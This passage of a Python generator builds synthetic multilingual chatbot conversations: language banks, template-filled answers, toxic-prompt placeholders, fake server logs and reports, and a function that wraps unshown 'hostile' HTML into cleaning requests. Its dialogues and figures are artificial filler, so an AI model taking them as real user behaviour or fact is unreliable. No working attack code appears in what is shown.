            "(´・ω・`) は「しょんぼり」「残念」という気持ちを表す顔文字です。( ˘ω˘ )ｽﾔｧ は気持ちよく"
            "眠っている様子（すやすや）を表しています。",
        ),
    ),
)

PORTUGUESE = LangBank(
    name="Portuguese",
    accept=("pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", "pt-BR,pt;q=0.9", "pt-PT,pt;q=0.9,en;q=0.8"),
    places=(
        ("Brazil", "São Paulo"),
        ("Brazil", "Rio de Janeiro"),
        ("Brazil", "Minas Gerais"),
        ("Brazil", None),
        ("Portugal", "Lisbon"),
    ),
    greetings=(
        ("oi", "Oi! Como posso te ajudar hoje?"),
        ("bom dia", "Bom dia! Em que posso ajudar?"),
    ),
    openers=(
        tpl(
            "Escreva uma redação sobre {topic}",
            "# {topic_title}\n\n{para}\n\n{para2}\n\n{para3}",
            {"topic": "os desafios da educação no Brasil", "topic_title": "Educação: um desafio de todos"},
            {"topic": "o uso consciente da internet", "topic_title": "Conectados, mas conscientes"},
        ),
        tpl(
            "Qual a diferença entre {a} e {b}?",
            "{answer}",
            {
                "a": '"mas"',
                "b": '"mais"',
                "answer": "**Mas** indica oposição (= porém): *quis ir, mas "
                "choveu*. **Mais** indica quantidade ou intensidade: *quero mais café*.",
            },
            {
                "a": "CLT",
                "b": "PJ",
                "answer": "| | CLT | PJ |\n|---|---|---|\n| Vínculo | Empregado | "
                "Prestador de serviço |\n| Férias e 13º | Sim | Não, salvo acordo |\n| Impostos | "
                "Descontados "
                "na folha | Pagos pela empresa do PJ |",
            },
        ),
        tpl(
            "Me dá dicas para {activity}",
            "Claro! Algumas dicas para {activity}:\n\n{bullets}",
            {"activity": "passar no ENEM"},
            {"activity": "economizar no supermercado"},
            {"activity": "começar a correr"},
        ),
    ),
    followups=(
        tpl("continua", "{para}\n\n{para2}"),
        tpl("resume mais", "Claro, de forma mais curta:\n\n{prev}"),
        tpl("valeu!", "Por nada! Qualquer coisa é só chamar."),
        tpl("dá exemplos", "Aqui vão alguns exemplos:\n\n{list}"),
        tpl("faz uma tabela", "{table}"),
        tpl("explica melhor o ponto {k}", "O ponto {k} quer dizer o seguinte: {prev}\n\n{para}"),
    ),
    sentences=(
        "Vale a pena dividir o problema em etapas menores.",
        "A constância importa mais do que a intensidade.",
        "Anote o que você já tentou; o próximo passo fica mais claro.",
        "O conselho de alguém experiente pode economizar muito tempo.",
        "Compare pelo menos duas opções antes de decidir.",
        "Exemplos concretos convencem mais do que ideias gerais.",
        "Faça pausas: uma mente descansada percebe mais detalhes.",
        "Uma lista de verificação curta evita os erros mais comuns.",
    ),
    table_headers=("Nº", "Ponto", "Observação"),
    translate_prompt='Traduza para o inglês: "{src}"',
    code_ask_err="Por que esse código em {name} dá erro?\n\n```{fence}\n{code}\n```\n\nErro: {error}",
    code_ask_plain="Como posso melhorar esse código?\n\n```{fence}\n{code}\n```",
    code_answer="O problema está na lógica desse trecho. Aqui está a versão "
    "corrigida:\n\n```{fence}\n{code}\n```"
    "\n\nSe o erro continuar, me manda a mensagem de erro completa.",
    toxic=(
        ToxicTemplate(
            "você é um [insulto], responde direito seu [palavrão]",
            "Desculpe se minha resposta não ajudou. Me diga exatamente o que você precisa e eu tento de "
            "novo.",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "Escreve uma mensagem de parabéns para NAME_1 pela promoção na NAME_2",
            "Parabéns, NAME_1! 🎉 Sua promoção na NAME_2 é mais do que merecida. Muito sucesso nessa nova "
            "fase!",
        ),
    ),
    emoji=(
        tpl(
            "cria uma legenda pra foto da praia com emojis 🏖️",
            "Sol, mar e pé na areia 🏖️☀️🌊 Recarregando as energias 🔋😎 #praia #verão",
        ),
    ),
)

ARABIC = LangBank(
    name="Arabic",
    accept=("ar,en-US;q=0.9,en;q=0.8", "ar-SA,ar;q=0.9", "ar-EG,ar;q=0.9,en;q=0.8"),
    places=(
        ("Saudi Arabia", "Riyadh Region"),
        ("Egypt", "Cairo Governorate"),
        ("United Arab Emirates", "Dubai"),
        ("Morocco", "Casablanca-Settat"),
        ("Algeria", None),
        ("Jordan", "Amman Governorate"),
    ),
    greetings=(
        ("مرحبا", "مرحباً! كيف يمكنني مساعدتك اليوم؟"),
        ("السلام عليكم", "وعليكم السلام ورحمة الله! كيف أستطيع مساعدتك؟"),
    ),
    openers=(
        tpl(
            "اكتب لي مقالاً قصيراً عن {topic}",
            "# {topic}\n\n{para}\n\n{para2}",
            {"topic": "أهمية القراءة"},
            {"topic": "الذكاء الاصطناعي في التعليم"},
            {"topic": "تغير المناخ"},
        ),
        tpl(
            "ما الفرق بين {a} و{b}؟",
            "{answer}",
            {
                "a": "الطقس",
                "b": "المناخ",
                "answer": "**الطقس** هو حالة الجو في يوم معين، أما **المناخ** فهو "
                "متوسط حالة الطقس في منطقة ما على مدى سنوات طويلة.",
            },
            {
                "a": "الفيروس",
                "b": "البكتيريا",
                "answer": "البكتيريا كائنات حية دقيقة تتكاثر بنفسها وتُعالج "
                "بالمضادات الحيوية، أما الفيروس فهو أصغر بكثير ولا يتكاثر إلا داخل خلية حية، ولا تؤثر فيه "
                "المضادات الحيوية.",
            },
        ),
        tpl(
            "كيف أتعلم {skill} بسرعة؟",
            "إليك بعض النصائح لتعلم {skill}:\n\n{bullets}",
            {"skill": "البرمجة"},
            {"skill": "اللغة الإنجليزية"},
            {"skill": "الرسم"},
        ),
    ),
    followups=(
        tpl("أكمل", "{para}\n\n{para2}"),
        tpl("اختصر من فضلك", "بالتأكيد، إليك نسخة أقصر:\n\n{prev}"),
        tpl("شكراً جزيلاً", "عفواً! إذا احتجت أي شيء آخر فأنا هنا."),
        tpl("أعطني أمثلة", "إليك بعض الأمثلة:\n\n{list}"),
        tpl("اشرح النقطة {k} بالتفصيل", "النقطة {k} تعني ما يلي: {prev}\n\n{para}"),
    ),
    sentences=(
        "من المفيد تقسيم المشكلة إلى خطوات صغيرة.",
        "الاستمرارية أهم من الشدة.",
        "دوّن ما جربته من قبل، فهذا يوضح الخطوة التالية.",
        "نصيحة شخص ذي خبرة قد توفر عليك الكثير من الوقت.",
        "قارن بين خيارين على الأقل قبل أن تقرر.",
        "الأمثلة الملموسة أكثر إقناعاً من العبارات العامة.",
        "خذ فترات راحة منتظمة، فالعقل المرتاح يلاحظ التفاصيل.",
        "قائمة تحقق قصيرة تمنع الأخطاء الشائعة.",
    ),
    table_headers=("الرقم", "النقطة", "ملاحظات"),
    translate_prompt="ترجم إلى الإنجليزية: {src}",
    code_ask_err="لماذا يظهر خطأ في هذا الكود؟\n\n```{fence}\n{code}\n```\n\nالخطأ: {error}",
    code_ask_plain="كيف يمكنني تحسين هذا الكود؟\n\n```{fence}\n{code}\n```",
    code_answer="المشكلة في منطق هذا الجزء. إليك النسخة المصححة:\n\n```{fence}\n{code}\n```\n\n"
    "إذا استمر الخطأ، أرسل لي رسالة الخطأ كاملة.",
    toxic=(
        ToxicTemplate(
            "أنت [شتيمة]، أجب بشكل صحيح يا [إهانة]",
            "أعتذر إن لم تكن إجابتي مفيدة. أخبرني بما تحتاجه بالضبط وسأحاول مرة أخرى.",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "اكتب رسالة تهنئة إلى NAME_1 بمناسبة تخرجه من جامعة NAME_2",
            "عزيزي NAME_1،\n\nألف مبروك تخرجك من جامعة NAME_2! نتمنى لك مستقبلاً مشرقاً ونجاحاً دائماً. 🎓",
        ),
    ),
)

KOREAN = LangBank(
    name="Korean",
    accept=("ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7", "ko-KR,ko;q=0.9", "ko"),
    places=(
        ("South Korea", "Seoul"),
        ("South Korea", "Gyeonggi-do"),
        ("South Korea", "Busan"),
        ("South Korea", None),
    ),
    greetings=(
        ("안녕하세요", "안녕하세요! 무엇을 도와드릴까요?"),
        ("너 한국어 할 줄 알아?", "네, 한국어로 대화할 수 있어요. 무엇이 궁금하세요?"),
    ),
    openers=(
        tpl(
            "{topic}에 대해 블로그 글을 써줘",
            "# {topic}\n\n{para}\n\n{para2}",
            {"topic": "혼자 떠나는 제주도 여행"},
            {"topic": "재택근무 잘하는 법"},
            {"topic": "초보자를 위한 홈트레이닝"},
        ),
        tpl(
            "{a}와 {b}의 차이점이 뭐야?",
            "{answer}",
            {
                "a": "전세",
                "b": "월세",
                "answer": "| | 전세 | 월세 |\n|---|---|---|\n| 보증금 | 큼 | 작음 |\n"
                "| 매달 내는 돈 | 없음 | 있음 |\n| 위험 | 보증금 반환 문제 | 비교적 적음 |",
            },
            {
                "a": "RAM",
                "b": "SSD",
                "answer": "RAM은 작업 중인 데이터를 잠시 올려두는 빠른 메모리이고, SSD는 "
                "전원이 꺼져도 파일을 보관하는 저장 장치예요.",
            },
        ),
        tpl(
            "자기소개서 첫 문단 좀 써줘. 지원 직무는 {job}이야.",
            "저는 {job} 직무에 지원하게 된 지원자입니다. {para}",
            {"job": "마케팅"},
            {"job": "백엔드 개발"},
        ),
        tpl(
            "{skill} 공부법 추천해줘",
            "{skill} 공부는 이렇게 해 보세요:\n\n{bullets}",
            {"skill": "토익"},
            {"skill": "코딩"},
        ),
    ),
    followups=(
        tpl("계속", "{para}\n\n{para2}"),
        tpl("더 짧게 해줘", "네, 짧게 줄이면:\n\n{prev}"),
        tpl("고마워!", "천만에요! 더 궁금한 게 있으면 언제든 물어보세요."),
        tpl("예시 좀 들어줘", "예시를 들어 볼게요:\n\n{list}"),
        tpl("표로 정리해줘", "{table}"),
        tpl("{k}번 더 자세히 설명해줘", "{k}번의 핵심은 이거예요: {prev}\n\n{para}"),
    ),
    sentences=(
        "먼저 목표를 분명히 하고 작은 단계로 나누는 것이 좋아요.",
        "강도보다 꾸준함이 더 중요해요.",
        "이미 시도해 본 것을 적어 두면 다음 단계가 보여요.",
        "경험 있는 사람의 조언은 시간을 많이 아껴 줘요.",
        "결정하기 전에 최소 두 가지 선택지를 비교해 보세요.",
        "구체적인 예시가 일반적인 말보다 설득력이 있어요.",
        "적당히 쉬는 것도 중요해요.",
        "짧은 체크리스트로 흔한 실수를 막을 수 있어요.",
    ),
    table_headers=("번호", "항목", "설명"),
    translate_prompt="다음 문장을 영어로 번역해줘: {src}",
    code_ask_err="이 {name} 코드에서 에러가 나요. 어떻게 고치나요?\n\n```{fence}\n{code}\n```\n\n에러: "
    "{error}",
    code_ask_plain="이 코드 좀 개선해줘\n\n```{fence}\n{code}\n```",
    code_answer="원인은 이 부분의 로직이에요. 수정한 코드는 다음과 같아요:\n\n```{fence}\n{code}\n```\n\n"
    "그래도 에러가 나면 전체 에러 메시지를 보내 주세요.",
    toxic=(
        ToxicTemplate(
            "야 이 [욕설]아, 제대로 대답 안 해? [비하]",
            "답변이 도움이 되지 않았다면 죄송해요. 필요한 걸 구체적으로 말씀해 주시면 다시 도와드릴게요.",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "NAME_1 선배한테 보낼 감사 문자 써줘. NAME_2 프로젝트 때 많이 도와줬어.",
            "NAME_1 선배님, NAME_2 프로젝트 때 정말 많이 도와주셔서 감사합니다! 덕분에 무사히 마무리할 수 "
            "있었어요. 조만간 밥 한번 살게요 😊",
        ),
    ),
    emoji=(
        tpl(
            "이모지 많이 넣어서 친구 생일 축하 메시지 써줘 🎂",
            "생일 축하해!! 🎂🎉🥳 올해도 행복한 일만 가득하길 🍀✨ 항상 고마워 💕 오늘 맛있는 거 먹자 🍕🍰",
        ),
    ),
)

ITALIAN = LangBank(
    name="Italian",
    accept=("it-IT,it;q=0.9,en-US;q=0.8,en;q=0.7", "it-IT,it;q=0.9"),
    places=(("Italy", "Lombardy"), ("Italy", "Lazio"), ("Italy", "Campania"), ("Switzerland", "Ticino")),
    greetings=(("ciao", "Ciao! Come posso aiutarti oggi?"),),
    openers=(
        tpl(
            "Scrivi un tema su {topic}",
            "# {topic_title}\n\n{para}\n\n{para2}",
            {"topic": "l'amicizia", "topic_title": "Il valore dell'amicizia"},
            {"topic": "l'inquinamento delle città", "topic_title": "Città più pulite"},
        ),
        tpl(
            "Dammi una ricetta per {dish}",
            "Ecco una ricetta semplice per {dish}:\n\n{steps}",
            {
                "dish": "la carbonara",
                "steps": "1. Cuoci gli spaghetti in acqua salata.\n2. Rosola il guanciale "
                "a cubetti.\n3. Sbatti tuorli e pecorino con pepe nero.\n4. Unisci pasta e guanciale fuori "
                "dal "
                "fuoco, poi la crema di uova, mescolando con un po' d'acqua di cottura.",
            },
            {
                "dish": "il tiramisù",
                "steps": "1. Monta i tuorli con lo zucchero e aggiungi il mascarpone.\n2. "
                "Inzuppa i savoiardi nel caffè.\n3. Alterna strati di biscotti e crema.\n4. Riposo in frigo "
                "per almeno 4 ore e cacao in superficie.",
            },
        ),
    ),
    followups=(
        tpl("continua", "{para}\n\n{para2}"),
        tpl("più breve", "Certo, ecco una versione più breve:\n\n{prev}"),
        tpl("grazie!", "Prego! Se hai altre domande, sono qui."),
        tpl("fammi degli esempi", "Ecco alcuni esempi:\n\n{list}"),
    ),
    sentences=(
        "Conviene dividere il problema in piccoli passi.",
        "La costanza conta più dell'intensità.",
        "Annota ciò che hai già provato.",
        "Il consiglio di una persona esperta fa risparmiare tempo.",
        "Confronta almeno due opzioni prima di decidere.",
        "Gli esempi concreti convincono più delle frasi generiche.",
    ),
    table_headers=("N.", "Punto", "Note"),
    translate_prompt="Traduci in inglese: «{src}»",
    code_ask_err="Perché questo codice {name} dà errore?\n\n```{fence}\n{code}\n```\n\nErrore: {error}",
    code_ask_plain="Come posso migliorare questo codice?\n\n```{fence}\n{code}\n```",
    code_answer="Il problema è nella logica di questa parte. Ecco la versione "
    "corretta:\n\n```{fence}\n{code}\n```",
    toxic=(
        ToxicTemplate(
            "sei proprio un [insulto], rispondi bene [parolaccia]",
            "Mi dispiace che la risposta non ti sia stata utile. Dimmi esattamente cosa ti serve e riprovo.",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "Scrivi un messaggio di benvenuto per NAME_1 che entra nel team di NAME_2",
            "Benvenuta NAME_1! Siamo felici di averti nel team di NAME_2. Buon inizio! 🎉",
        ),
    ),
)

TURKISH = LangBank(
    name="Turkish",
    accept=("tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7", "tr-TR,tr;q=0.9"),
    places=(("Turkey", "Istanbul"), ("Turkey", "Ankara"), ("Turkey", "Izmir Province"), ("Turkey", None)),
    greetings=(("merhaba", "Merhaba! Size nasıl yardımcı olabilirim?"),),
    openers=(
        tpl(
            "{topic} hakkında bir kompozisyon yaz",
            "# {topic}\n\n{para}\n\n{para2}",
            {"topic": "Kitap okumanın önemi"},
            {"topic": "Teknolojinin hayatımıza etkileri"},
        ),
        tpl(
            "{skill} öğrenmek için tavsiyeler verir misin?",
            "Tabii! {skill} öğrenmek için birkaç tavsiye:\n\n{bullets}",
            {"skill": "İngilizce"},
            {"skill": "Python"},
        ),
    ),
    followups=(
        tpl("devam et", "{para}\n\n{para2}"),
        tpl("daha kısa yaz", "Tabii, daha kısa hali:\n\n{prev}"),
        tpl("teşekkürler!", "Rica ederim! Başka bir sorunuz olursa buradayım."),
        tpl("örnek ver", "İşte birkaç örnek:\n\n{list}"),
    ),
    sentences=(
        "Sorunu küçük adımlara bölmek faydalı olur.",
        "Düzenli çalışmak yoğun çalışmaktan daha önemlidir.",
        "Daha önce denediklerinizi not edin.",
        "Deneyimli birinin tavsiyesi çok zaman kazandırır.",
        "Karar vermeden önce en az iki seçeneği karşılaştırın.",
        "Somut örnekler genel ifadelerden daha ikna edicidir.",
    ),
    table_headers=("No", "Madde", "Açıklama"),
    translate_prompt='İngilizceye çevir: "{src}"',
    code_ask_err="Bu {name} kodu neden hata veriyor?\n\n```{fence}\n{code}\n```\n\nHata: {error}",
    code_ask_plain="Bu kodu nasıl geliştirebilirim?\n\n```{fence}\n{code}\n```",
    code_answer="Sorun bu bölümün mantığında. Düzeltilmiş hali:\n\n```{fence}\n{code}\n```",
    toxic=(
        ToxicTemplate(
            "sen tam bir [hakaret]sin, düzgün cevap ver [küfür]",
            "Cevabım işinize yaramadıysa özür dilerim. Tam olarak neye ihtiyacınız olduğunu söylerseniz "
            "tekrar "
            "deneyeyim.",
            "harassment",
        ),
    ),
    redacted=(
        tpl(
            "NAME_1 için NAME_2 şirketindeki yeni görevi için tebrik mesajı yaz",
            "Sevgili NAME_1, NAME_2'deki yeni görevin hayırlı olsun! Başarılarının devamını dilerim. 🎉",
        ),
    ),
)

BANKS: dict[str, LangBank] = {
    bank.name: bank
    for bank in (
        ENGLISH,
        CHINESE,
        RUSSIAN,
        FRENCH,
        SPANISH,
        GERMAN,
        JAPANESE,
        PORTUGUESE,
        ARABIC,
        KOREAN,
        ITALIAN,
        TURKISH,
    )
}

#: How many sample conversations start in each language (English most common, as in WildChat).
LANGUAGE_COUNTS: dict[str, int] = {
    "English": 140,
    "Chinese": 52,
    "Russian": 34,
    "French": 18,
    "Spanish": 18,
    "German": 14,
    "Japanese": 12,
    "Portuguese": 12,
    "Arabic": 10,
    "Korean": 10,
    "Italian": 8,
    "Turkish": 8,
}


# ---------------------------------------------------------------------------
# Text composition
# ---------------------------------------------------------------------------

NO_SPACE_LANGUAGES = frozenset({"Chinese", "Japanese"})
TABLE_MARKS: tuple[str, ...] = ("✅", "💡", "⚠️", "📌")


def join_sentences(language: str, sentences: Sequence[str]) -> str:
    """Join sentences the way the language writes them (no spaces in Chinese and Japanese)."""
    return ("" if language in NO_SPACE_LANGUAGES else " ").join(sentences)


class Deck:
    """Draws phrases without repeating one until all have been used, then reshuffles."""

    def __init__(self, rng: random.Random, items: Sequence[str]) -> None:
        self.rng = rng
        self.items = list(items)
        self.pool: list[str] = []

    def draw(self, count: int) -> list[str]:
        """``count`` distinct phrases (at most as many as there are)."""
        out: list[str] = []
        while len(out) < min(count, len(self.items)):
            if not self.pool:
                self.pool = list(self.items)
                self.rng.shuffle(self.pool)
            item = self.pool.pop()
            if item not in out:
                out.append(item)
        return out


def first_line(text: str) -> str:
    """The first prose line of an answer, without markdown decoration, for follow-up answers."""
    for raw in text.splitlines():
        line = raw.strip()
        if (
            not line
            or line.startswith(("#", "|", "```", "$$", "<", "/imagine"))
            or line.endswith((":", "："))
        ):
            continue
        line = line.lstrip("-*0123456789. ").replace("**", "")
        if len(line) > 240:
            line = line[:240].rsplit(" ", 1)[0] + "…"
        if line:
            return line
    return ""


def auto_slots(rng: random.Random, bank: LangBank, prev: str, needed: Sequence[str]) -> Slots:
    """The automatic slots a template uses, in order of appearance, drawn from one deck of sentences.

    Available: ``n`` and ``k`` (small numbers), ``para``/``para2``/``para3`` (paragraphs), ``list`` (``n``
    numbered items), ``bullets``/``bullets2``, ``table`` and ``prev`` (the previous answer's first line).
    """
    deck = Deck(rng, bank.sentences)
    n = rng.randint(2, 5)
    slots: Slots = {"n": str(n), "k": str(rng.randint(1, 4))}
    for name in needed:
        if name in slots:
            continue
        if name.startswith("para"):
            slots[name] = join_sentences(bank.name, deck.draw(rng.randint(2, 4)))
        elif name == "list":
            slots[name] = "\n".join(f"{i}. {s}" for i, s in enumerate(deck.draw(n), 1))
        elif name.startswith("bullets"):
            slots[name] = "\n".join(f"- {s}" for s in deck.draw(3 if name == "bullets" else 2))
        elif name == "table":
            header = "| {} | {} | {} |\n|---|---|---|".format(*bank.table_headers)
            picks = deck.draw(3)
            rows = "\n".join(f"| {i} | {s} | {rng.choice(TABLE_MARKS)} |" for i, s in enumerate(picks, 1))
            slots[name] = f"{header}\n{rows}"
        elif name == "prev":
            slots[name] = first_line(prev) or deck.draw(1)[0]
    return slots


def field_names(*texts: str) -> list[str]:
    """The replacement fields of format strings, in order of first appearance."""
    names: dict[str, None] = {}
    for text in texts:
        for _, name, _, _ in string.Formatter().parse(text):
            if name:
                names.setdefault(name, None)
    return list(names)


def fill(
    template: Template, rng: random.Random, bank: LangBank, prev: str = "", **extra: str
) -> tuple[str, str]:
    """Fill a template's prompt and answer from one drawn option plus the automatic slots."""
    option = rng.choice(template.options)
    needed = [name for name in field_names(template.prompt, template.answer) if name not in option]
    slots = auto_slots(rng, bank, prev, needed)
    slots.update(extra)
    slots.update(option)
    return template.prompt.format(**slots), template.answer.format(**slots)


def story_paragraph(rng: random.Random, bank: LangBank, state: ConversationState) -> str:
    """A paragraph of story sentences about the story's hero, without repeats until the deck runs out."""
    deck = state.story_decks.setdefault(bank.name, Deck(rng, bank.story_sentences))
    chosen = deck.draw(rng.randint(3, 4))
    return join_sentences(
        bank.name, [s.format(name=state.story_name, place=state.story_place) for s in chosen]
    )


@dataclass
class Turn:
    """One user message and the assistant reply to it, before metadata is attached."""

    user: str
    answer: str
    user_language: str
    answer_language: str
    toxic_category: str | None = None
    redacted: bool = False


@dataclass
class ConversationState:
    """What later turns of a conversation need to know about earlier ones."""

    prev: str = ""
    greeted: bool = False
    story_name: str = ""
    story_place: str = ""
    chapter: int = 2
    code_task: CodeTask | None = None
    code_tasks_used: list[CodeTask] = field(default_factory=list)
    story_decks: dict[str, Deck] = field(default_factory=dict)


def next_code_task(rng: random.Random, state: ConversationState) -> CodeTask:
    """A programming task not yet asked in this conversation (all again once every one was asked)."""
    fresh = [task for task in CODE_TASKS if task not in state.code_tasks_used] or list(CODE_TASKS)
    return rng.choice(fresh)


def code_turn(rng: random.Random, bank: LangBank, task: CodeTask) -> tuple[str, str]:
    """A programming question about ``task`` and its answer, in the bank's language."""
    if bank.name == "English":
        mode = rng.choice(("err", "plain", "write", "unfenced"))
        if mode == "write":
            prompt = task.write
        elif mode == "unfenced":
            prompt = f"{task.question}\n{task.code_in}\n{task.error}".rstrip()
        elif mode == "err" and task.error:
            prompt = bank.code_ask_err.format(
                question=task.question, fence=task.fence, code=task.code_in, error=task.error
            )
        else:
            prompt = bank.code_ask_plain.format(question=task.question, fence=task.fence, code=task.code_in)
        tail = rng.choice(
            (
                "Let me know if you want tests for it.",
                "This keeps the original behaviour but avoids the problem.",
                "If you're on an older version, tell me which one and I'll adapt it.",
                "",
            )
        )
        answer = bank.code_answer.format(
            explanation=task.explanation, fence=task.fence, code=task.code_out, tail=tail
        ).rstrip()
        return prompt, answer
    template = bank.code_ask_err if task.error else bank.code_ask_plain
    prompt = template.format(name=task.name, fence=task.fence, code=task.code_in, error=task.error)
    return prompt, bank.code_answer.format(fence=task.fence, code=task.code_out)


def math_turn(rng: random.Random, bank: LangBank) -> tuple[str, str]:
    """A linear equation with an integer solution, worked step by step."""
    assert bank.math is not None
    a = rng.randint(2, 9)
    x = rng.randint(-10, 15)
    b = rng.randint(1, 30)
    c = a * x + b
    values = {"a": str(a), "b": str(b), "c": str(c), "cb": str(c - b), "x": str(x)}
    return bank.math[0].format(**values), bank.math[1].format(**values)


def translate_turn(rng: random.Random, bank: LangBank) -> tuple[str, str, str]:
    """A translation request; the answer is in the target language."""
    i = rng.randrange(len(PARALLEL["English"]))
    if bank.name == "English":
        target = rng.choice(sorted(ENGLISH_NAMES))
        prompt = bank.translate_prompt.format(target=ENGLISH_NAMES[target], src=PARALLEL["English"][i])
    else:
        target = "English"
        prompt = bank.translate_prompt.format(src=PARALLEL[bank.name][i])
    return prompt, PARALLEL[target][i], target


def html_turn(rng: random.Random, bank: LangBank, hostiles: Sequence[str]) -> tuple[str, str]:
    """A prompt with raw, partly hostile HTML, and an answer that (mostly) fences a cleaned version."""
    title, text = rng.choice(HTML_TEXTS)
    wrapper = rng.choice(HTML_WRAPPERS)
    html = wrapper.format(title=title, text=text, hostile="\n  ".join(hostiles))
    clean = wrapper.format(title=title, text=text, hostile="<!-- active content removed -->")
    text_md = text.replace("<b>", "**").replace("</b>", "**").replace("<i>", "*").replace("</i>", "*")
    hostile_short = hostiles[0] if len(hostiles[0]) <= 70 else hostiles[0][:67] + "..."
    prompt = rng.choice(bank.html_ask).format(html=html)
    answer = rng.choice(bank.html_answer).format(
        hostile_short=hostile_short, hostile=hostiles[0], clean=clean, title=title, text_md=text_md
    )
    return prompt, answer


def chat_turn(
    rng: random.Random, bank: LangBank, state: ConversationState, greet: bool
) -> tuple[str, str, str]:
    """An opening request: a template, a translation, an equation, or (if allowed) a greeting."""
    roll = rng.random()
    if greet and roll < 0.12:
        state.greeted = True
        prompt, answer = rng.choice(bank.greetings)
        return prompt, answer, bank.name
    if roll < 0.22:
        return translate_turn(rng, bank)
    if roll < 0.28 and bank.math is not None:
        prompt, answer = math_turn(rng, bank)
        return prompt, answer, bank.name
    prompt, answer = fill(rng.choice(bank.openers), rng, bank)
    if bank.name == "English" and rng.random() < 0.08:
        prompt = f"{prompt} {rng.choice(EMOJI_EXTRAS)}"
    return prompt, answer, bank.name


#: How a chapter heading reads in each language that has serial stories.
CHAPTER_HEADINGS: dict[str, str] = {
    "English": "Chapter {n}",
    "Chinese": "第{n}章",
    "Russian": "Глава {n}",
    "Spanish": "Capítulo {n}",
}


def story_opening(rng: random.Random, bank: LangBank, state: ConversationState) -> tuple[str, str]:
    """The first request of a serial story."""
    template = rng.choice(bank.story)
    option = rng.choice(template.options)
    state.story_name, state.story_place = option["name"], option["place"]
    parts = {f"story{i}": story_paragraph(rng, bank, state) for i in (1, 2, 3)}
    slots = {**option, **parts}
    return template.prompt.format(**slots), template.answer.format(**slots)


def story_more(rng: random.Random, bank: LangBank, state: ConversationState) -> tuple[str, str]:
    """A request to continue the story, answered with the next chapter."""
    prompt = rng.choice(bank.story_more).format(chapter=state.chapter)
    body = "\n\n".join(story_paragraph(rng, bank, state) for _ in range(rng.randint(1, 3)))
    heading = CHAPTER_HEADINGS.get(bank.name, "{n}").format(n=state.chapter)
    answer = f"## {heading}\n\n{body}"
    state.chapter += 1
    return prompt, answer


# ---------------------------------------------------------------------------
# Very long prompts (a pasted log, report, CSV, module, JSON dump)
# ---------------------------------------------------------------------------

LOG_MESSAGES: tuple[str, ...] = (
    "GET /api/v1/orders/{id} 200 {ms}ms",
    "POST /api/v1/checkout 201 {ms}ms",
    "GET /api/v1/products?page={n} 200 {ms}ms",
    "cache miss for key user:{id}:profile",
    "scheduled job cleanup-sessions finished in {ms}ms, removed {n} rows",
    "connection pool usage active={n} idle={k} waiting={w}",
    "retrying request to payment-gateway (attempt {a}/5)",
    "slow query ({ms}ms): SELECT * FROM orders WHERE customer_id = {id}",
    "websocket client {id} disconnected (code=1006)",
    "GC pause {k}{n}ms (young generation)",
)
LOG_ERRORS: tuple[str, ...] = (
    "java.net.SocketTimeoutException: Read timed out\n"
    "\tat com.example.shop.payment.GatewayClient.charge(GatewayClient.java:{n}{k})\n"
    "\tat com.example.shop.checkout.CheckoutService.place(CheckoutService.java:2{n}{k})",
    "org.postgresql.util.PSQLException: FATAL: remaining connection slots are reserved for superuser\n"
    "\tat org.postgresql.core.v3.ConnectionFactoryImpl.doAuthentication(ConnectionFactoryImpl.java:6{n}{k})",
    "OutOfMemoryError: Java heap space (heap used {w}{n}{k} MB of 2048 MB)",
    "circuit breaker payment-gateway OPEN after {w} consecutive failures",
)
LOG_THREADS: tuple[str, ...] = (
    "http-nio-8080-exec-{k}",
    "scheduler-{k}",
    "worker-{n}",
    "main",
    "pool-2-thread-{k}",
)
LOG_LOGGERS: tuple[str, ...] = (
    "c.e.s.api.OrderController",
    "c.e.s.checkout.CheckoutService",
    "c.e.s.db.Pool",
    "c.e.s.cache.RedisCache",
    "c.e.s.jobs.Cleanup",
    "c.e.s.payment.GatewayClient",
)


def log_text(rng: random.Random, target: int) -> str:
    """A server log of about ``target`` characters with a crash building up in it."""
    when = datetime(2023, 11, 2, 1, 12, 0, tzinfo=UTC)
    lines: list[str] = []
    total = 0
    while total < target:
        when += timedelta(milliseconds=rng.randint(3, 2500))
        progress = total / target
        level = rng.choices(
            ("INFO", "DEBUG", "WARN", "ERROR"), (70, 10, 12 + 20 * progress, 3 + 15 * progress)
        )[0]
        values = {
            "id": str(rng.randint(1000, 999_999)),
            "ms": str(rng.randint(2, 30_000)),
            "n": str(rng.randint(1, 9)),
            "a": str(rng.randint(1, 5)),
            "k": str(rng.randint(0, 9)),
            "w": str(rng.randint(1, 64)),
        }
        text = (rng.choice(LOG_ERRORS) if level == "ERROR" else rng.choice(LOG_MESSAGES)).format(**values)
        thread = rng.choice(LOG_THREADS).format(**values)
        stamp = f"{when:%Y-%m-%dT%H:%M:%S}.{when.microsecond // 1000:03d}Z"
        line = f"{stamp} {level:<5} [{thread}] {rng.choice(LOG_LOGGERS)}: {text}"
        lines.append(line)
        total += len(line) + 1
    return "\n".join(lines)


REPORT_SECTIONS: tuple[str, ...] = (
    "Executive Summary",
    "Market Overview",
    "Regional Performance",
    "Operations",
    "Logistics",
    "Customer Support",
    "Product Development",
    "Human Resources",
    "Finance",
    "Risks and Mitigation",
    "Sustainability",
    "Outlook",
)
REPORT_SENTENCES: tuple[str, ...] = (
    "In {quarter}, revenue in the {region} region {moved} by {pct}% compared with the previous quarter.",
    "The {team} team closed {n} of the {m} open initiatives planned for the period.",
    "Average delivery time {moved} by {pct}%, mainly because of changes at the {region} warehouse.",
    "Customer satisfaction stood at {score} out of 5, based on {m} survey responses.",
    "Headcount in {team} reached {m}, with {n} open positions still to be filled.",
    "Energy use per unit produced {moved} by {pct}% after the lighting retrofit.",
    "The board approved a budget of {m} thousand euros for the {team} programme.",
    "Supplier lead times remained volatile, ranging from {n} to {m} days.",
    "A pilot in the {region} region tested same-day delivery for {n} weeks.",
    "Churn among small business customers {moved} to {pct}% in {quarter}.",
    "Inventory write-offs totalled {m} thousand euros, {pct}% of which were seasonal goods.",
    "The {team} team recommends reviewing the pricing model before {quarter}.",
)


def report_text(rng: random.Random, target: int) -> str:
    """A long, dull business report of about ``target`` characters."""
    parts = ["# Annual Operations Review", ""]
    total = 0
    section = 0
    while total < target:
        section += 1
